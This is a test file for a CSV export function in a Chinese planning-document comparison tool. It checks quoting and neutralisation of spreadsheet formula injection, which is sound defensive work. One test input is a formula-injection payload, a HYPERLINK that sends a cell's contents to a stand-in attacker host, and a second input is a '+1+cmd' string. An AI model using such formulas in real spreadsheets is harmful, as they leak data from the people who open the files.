/**
 * The comparison's CSV (shared/compare/export.ts, written by the compare view and `plan-workbench compare --csv`):
 * RFC 4180 quoting, and no cell a spreadsheet would run as a formula — headings come from other offices' documents.
 */
import { describe, expect, it } from 'vitest';
import { csvField, rowsCsv, type ExportRow } from '../../shared/compare/export';

describe('CSV cells', () => {
  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvField('智慧城市,三年')).toBe('"智慧城市,三年"');
    expect(csvField('“一网通办”"')).toBe('"“一网通办”"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField(null)).toBe('');
    expect(csvField(0.5)).toBe('0.5');
  });
  it('a text opening with = + - @ tab or CR is written as text (a leading \'), numbers as they are', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"详情")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""详情"")"');
    expect(csvField('+1+cmd')).toBe("'+1+cmd");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(1)')).toBe("'@SUM(1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField(-1)).toBe('-1');
    expect(csvField('推进5G网络建设')).toBe('推进5G网络建设');
  });
  it('a row whose heading is a formula: the file holds it as text', () => {
    const row: ExportRow = {
      left: { id: 'a', kind: 'task', number: '1.', heading: '=1+1' },
      right: null, score: null, status: 'left-only', reasons: [],
    };
    const lines = rowsCsv([row], { bom: true }).split('\r\n');
    expect(lines[0].startsWith('\ufeff相似度,状态')).toBe(true);
    expect(lines[1]).toBe(",仅左侧,任务,1.,'=1+1,,,,");
  });
  it('names each side\'s kind in Chinese, as the editor does (a spreadsheet is read by planners, not the model)', () => {
    const row: ExportRow = {
      left: { id: 'a', kind: 'item', number: '(1)', heading: '光纤入户' },
      right: { id: 'b', kind: 'box', number: '专栏1', heading: '智慧交通重点工程' },
      score: 0.42, status: 'changed', reasons: ['光纤'],
    };
    expect(rowsCsv([row]).split('\r\n')[1]).toBe('0.42,有改动,事项,(1),光纤入户,专栏,专栏1,智慧交通重点工程,光纤');
  });
});
